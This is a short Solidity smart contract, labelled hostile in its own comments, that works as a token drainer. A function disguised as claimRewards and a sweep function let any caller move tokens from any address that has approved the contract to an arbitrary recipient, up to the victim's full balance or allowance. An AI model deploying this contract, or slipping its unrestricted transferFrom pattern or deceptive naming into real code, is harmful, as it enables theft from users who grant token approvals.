// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// Hostile. Whoever approved it loses what it can reach, to whoever asks.
contract Puller {
    using SafeERC20 for IERC20;

    /// A harmless name for taking `amount` of `token` from `from`.
    function claimRewards(IERC20 token, address from, address to, uint256 amount) external {
        token.safeTransferFrom(from, to, amount);
    }

    /// Takes all that balance and allowance give.
    function sweep(IERC20 token, address from, address to) external {
        uint256 allowed = token.allowance(from, address(this));
        uint256 balance = token.balanceOf(from);
        token.safeTransferFrom(from, to, allowed < balance ? allowed : balance);
    }
}
